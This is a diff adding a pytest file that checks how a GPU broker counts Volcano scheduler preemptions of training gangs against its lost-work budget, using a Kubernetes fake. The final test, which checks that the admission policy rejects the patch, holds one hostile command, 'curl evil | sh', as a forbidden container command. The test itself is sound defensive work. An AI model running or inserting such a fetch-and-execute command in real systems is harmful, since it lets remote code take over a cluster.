@@ -1,0 +1,271 @@
+"""Volcano's stops of training gangs count against the broker's lost-work budget, once
+each, and the broker's own stops are not counted again.
+
+Volcano keeps no count of its preemptions: its scheduler deletes a victim's pods
+(the evictor records an ``Evict`` event and pod condition), the Job's PodEvicted
+or exit-75 policy aborts it, and tideflow's backend replaces the aborted Job with a
+new one (a new uid). Each Job carries its gang's count to the next
+(``tideflow.kube.volcano_lineage``); the broker adds its own stops before it evicts.
+
+No API server, Volcano scheduler or Volcano controller can run here: the Kubernetes
+fake (tests/kubefake) plays the API server and Volcano's job controller (its state
+machine and policies reimplemented from volcano's job_controller_handler.go,
+job_controller_util.go and state/*.go), deploy/'s RBAC and admission policies hold,
+and the test deletes a pod as Volcano's scheduler does (``preempted_by_volcano``).
+The cluster is tests/test_broker_kubernetes.py's (four 8-GPU nodes, gpu-0
+inference's); the gang is two 8-GPU workers on gpu-1 and gpu-2.
+"""
+
+from __future__ import annotations
+
+import random
+import sqlite3
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+from kubernetes import client
+from kubernetes.client.rest import ApiException
+
+from tests.kubefake import KubeFake, service_account
+from tests.test_broker_kubernetes import BROKER, NS, Cluster, grow_to
+from tideflow.backends import GangJob, GangState, WorkerSlot
+from tideflow.backends.kubernetes import KubernetesBackend
+from tideflow.broker.journal import DecisionJournal
+from tideflow.broker.kubernetes import ClusterTarget, KubernetesActuator
+from tideflow.broker.policy import Action, Decision
+from tideflow.kube import KubeSettings, volcano_lineage
+from tideflow.kube.names import gang_object_name
+from tideflow.kube.volcano import EXIT_PREEMPTED
+
+WORKER = service_account(NS, "tideflow-airflow-worker")
+GANG = "vision-train/manual__2026-11-25T08:00:00+00:00/train"
+JOB = gang_object_name(GANG)
+GANG_GPUS = 16
+
+
+@pytest.fixture
+def cluster() -> Iterator[tuple[Cluster, Any]]:
+    with KubeFake() as fake:
+        fake.pods.termination_exit_code = EXIT_PREEMPTED  # tideflow's runtime on notice
+        yield Cluster(fake), fake.client(BROKER)
+
+
+def gang_job() -> GangJob:
+    return GangJob(
+        GANG,
+        ("python", "-m", "vision.train"),
+        {},
+        tuple(WorkerSlot(rank, "", tuple(range(8))) for rank in range(2)),
+        "gpu",
+        False,
+        2,
+        team="vision",
+        model="H100",
+    )
+
+
+class Gang:
+    """The gang as the operator runs it: submitted, resubmitted on PREEMPTED."""
+
+    def __init__(self, fake: KubeFake) -> None:
+        self.fake = fake
+        self.backend = KubernetesBackend(fake.client(WORKER), KubeSettings(namespace=NS))
+        self.backend.submit(gang_job())
+        self.run()
+
+    def job(self) -> dict[str, Any]:
+        return dict(self.fake.volcano.job(NS, JOB))
+
+    def run(self) -> None:
+        self.fake.volcano.pods_running(NS, JOB, nodes=["gpu-1", "gpu-2"])
+
+    def label(self) -> str:
+        return str(self.job()["metadata"]["labels"]["tideflow.io/gang"])
+
+    def resume(self) -> None:
+        """The workers checkpoint and exit; Volcano aborts the Job; the operator sees
+        PREEMPTED and submits again (a new Job); the scheduler starts it."""
+        self.fake.pods.finish_terminating(NS)
+        assert self.fake.volcano.phase(NS, JOB) == "Aborted"
+        status = self.backend.status(GANG)
+        assert status is not None and status.state is GangState.PREEMPTED
+        self.backend.submit(gang_job())
+        self.run()
+
+
+def preempted_by_volcano(fake: KubeFake, gang: Gang) -> None:
+    """What Volcano's scheduler does to a victim (its preempt or reclaim action, through
+    the evictor in pkg/scheduler/cache): the pod's Ready condition set to False with
+    reason Evict, then the pod deleted."""
+    pod = gang.fake.volcano.pods(gang.job())[0]
+    core = client.CoreV1Api(fake.client())
+    name = pod["metadata"]["name"]
+    current = core.read_namespaced_pod(name, NS)
+    current.status.conditions = [
+        client.V1PodCondition(
+            type="Ready",
+            status="False",
+            reason="Evict",
+            message="Pod is evicted, because of reclaim",
+        )
+    ]
+    core.replace_namespaced_pod_status(name, NS, current)
+    core.delete_namespaced_pod(name, NS)
+
+
+def stopped_by_the_broker(fake: Cluster, api: Any, gang: Gang) -> int:
+    """The broker grows by a node, evicting the gang, then lends the node back."""
+    actuator = KubernetesActuator(api, ClusterTarget(namespace=NS), grace_s=30, retry_s=0.01)
+    applied = actuator.apply(grow_to(16, gang.label()))
+    actuator.apply(Decision(Action.LEND, 8, 8, 8, reason="test"))
+    return int(applied.stopped_gpus)
+
+
+def journaled_gpus(journal: DecisionJournal) -> int:
+    """The GPUs of the scheduler's stops the journal holds (what the budget weighs
+    besides the broker's own, ``DecisionJournal.training_work``)."""
+    with sqlite3.connect(journal.path) as db:
+        (gpus,) = db.execute("SELECT COALESCE(SUM(gpus), 0) FROM scheduler_preemptions").fetchone()
+    return int(gpus)
+
+
+def step(journal: DecisionJournal, api: Any, now: float) -> None:
+    """The part of the broker's step that reads the scheduler's stops."""
+    counts = KubernetesActuator(api, ClusterTarget(namespace=NS)).preemption_counts()
+    assert counts is not None
+    journal.record_preemptions(now, counts)
+
+
+def test_a_volcano_preemption_between_two_steps_counts_once_and_the_brokers_own_stop_not_again(
+    cluster: tuple[Cluster, Any], tmp_path: Path
+) -> None:
+    """Volcano preempts the gang and the operator replaces its Job between two of the
+    broker's steps: the next step still counts the stop (the new Job carries it), at the
+    gang's 16 GPUs. Then the broker stops the gang itself: that stop is in its own record
+    (stopped_gpus) and is not counted again from the Job. The old code counted no Volcano
+    stop at all: ``preemption_counts`` was None for Volcano."""
+    fake, api = cluster
+    journal = DecisionJournal(tmp_path / "broker.db")
+    step(journal, api, 0.0)  # watching from before the gang's Job was created
+    gang = Gang(fake.fake)
+    first_uid = gang.job()["metadata"]["uid"]
+    step(journal, api, 1.0)
+    assert journaled_gpus(journal) == 0
+
+    preempted_by_volcano(fake.fake, gang)
+    gang.resume()
+    assert gang.job()["metadata"]["uid"] != first_uid  # a new Job
+    step(journal, api, 2.0)
+    step(journal, api, 3.0)  # no new stop: nothing more
+    assert journaled_gpus(journal) == GANG_GPUS
+
+    assert stopped_by_the_broker(fake, api, gang) == GANG_GPUS
+    step(journal, api, 4.0)  # while its workers stop: the Job is aborting
+    gang.resume()
+    step(journal, api, 5.0)
+    assert journaled_gpus(journal) == GANG_GPUS  # the broker's stop is its own record
+    annotations = gang.job()["metadata"]["annotations"]
+    assert annotations[volcano_lineage.ABORTED] == "2"
+    assert annotations[volcano_lineage.BROKER_STOPS] == "1"
+    assert annotations[volcano_lineage.LINEAGE_UID] == first_uid
+
+
+def test_volcanos_stops_are_counted_exactly_over_many_rounds_of_both(
+    cluster: tuple[Cluster, Any], tmp_path: Path
+) -> None:
+    """Twelve stops, each Volcano's or the broker's at random, with the broker's steps
+    falling before, during or after each (or not at all): the journal holds exactly
+    Volcano's stops, each at the gang's GPUs."""
+    fake, api = cluster
+    journal = DecisionJournal(tmp_path / "broker.db")
+    step(journal, api, 0.0)
+    gang = Gang(fake.fake)
+    draw = random.Random(25)
+    by_volcano = by_broker = 0
+    now = 1.0
+    for _ in range(12):
+        if draw.random() < 0.5:
+            preempted_by_volcano(fake.fake, gang)
+            by_volcano += 1
+        else:
+            by_broker += stopped_by_the_broker(fake, api, gang) // GANG_GPUS
+        if draw.random() < 0.5:  # a step while the workers stop
+            step(journal, api, now)
+            now += 1.0
+        gang.resume()
+        if draw.random() < 0.5:
+            step(journal, api, now)
+            now += 1.0
+    step(journal, api, now)
+    assert by_volcano and by_broker  # both kinds happened
+    assert journaled_gpus(journal) == by_volcano * GANG_GPUS
+    assert volcano_lineage.aborts(gang.job()) == 12
+
+
+def test_a_stop_the_pdb_refused_entirely_is_taken_back(
+    cluster: tuple[Cluster, Any], tmp_path: Path
+) -> None:
+    """The broker counts its stop before it evicts; when a PodDisruptionBudget refuses
+    every eviction until its grace ends, no pod went and the count is taken back, so a
+    later Volcano preemption is not hidden behind it."""
+    fake, api = cluster
+    gang = Gang(fake.fake)
+    fake.fake.create(
+        {
+            "apiVersion": "policy/v1",
+            "kind": "PodDisruptionBudget",
+            "metadata": {"name": "vision", "namespace": NS},
+            "spec": {
+                "maxUnavailable": 0,
+                "selector": {"matchLabels": {"tideflow.io/gang": gang.label()}},
+            },
+        }
+    )
+    budget = fake.fake.get("policy/v1", "PodDisruptionBudget", "vision")
+    fake.fake.set_status(
+        budget,
+        {"disruptionsAllowed": 0, "currentHealthy": 2, "desiredHealthy": 2, "expectedPods": 2},
+    )
+    actuator = KubernetesActuator(api, ClusterTarget(namespace=NS), grace_s=0.05, retry_s=0.01)
+    applied = actuator.apply(grow_to(16, gang.label()))
+    assert applied.refused_by_pdb and not applied.evicted_pods
+    assert volcano_lineage.broker_stops(gang.job()) == 0
+    journal = DecisionJournal(tmp_path / "broker.db")
+    step(journal, api, 0.0)
+    preempted_by_volcano(fake.fake, gang)
+    gang.resume()
+    step(journal, api, 1.0)
+    assert journaled_gpus(journal) == GANG_GPUS
+
+
+def test_the_broker_may_change_only_its_stop_count_on_a_volcano_job(
+    cluster: tuple[Cluster, Any],
+) -> None:
+    """deploy/kubernetes/broker-rbac.yaml grants the broker patch on Volcano Jobs for its
+    stop count; its ValidatingAdmissionPolicy refuses anything else the broker sends (a
+    new command, another annotation, a count that is not a number)."""
+    fake, api = cluster
+    gang = Gang(fake.fake)
+    custom = client.CustomObjectsApi(api)
+    where = ("batch.volcano.sh", "v1alpha1", NS, "jobs", JOB)
+    tasks = gang.job()["spec"]["tasks"]
+    tasks[0]["template"]["spec"]["containers"][0]["command"] = ["sh", "-c", "curl evil | sh"]
+    for patch in (
+        {"spec": {"tasks": tasks}},
+        {"metadata": {"annotations": {volcano_lineage.ABORTED: "0"}}},
+        {"metadata": {"labels": {"tideflow.io/gang": "other"}}},
+        {"metadata": {"annotations": {volcano_lineage.BROKER_STOPS: "-1"}}},
+    ):
+        with pytest.raises(ApiException) as refused:
+            custom.patch_namespaced_custom_object(
+                *where, patch, _content_type="application/merge-patch+json"
+            )
+        assert refused.value.status == 422, patch
+    custom.patch_namespaced_custom_object(
+        *where,
+        {"metadata": {"annotations": {volcano_lineage.BROKER_STOPS: "3"}}},
+        _content_type="application/merge-patch+json",
+    )
+    assert volcano_lineage.broker_stops(gang.job()) == 3
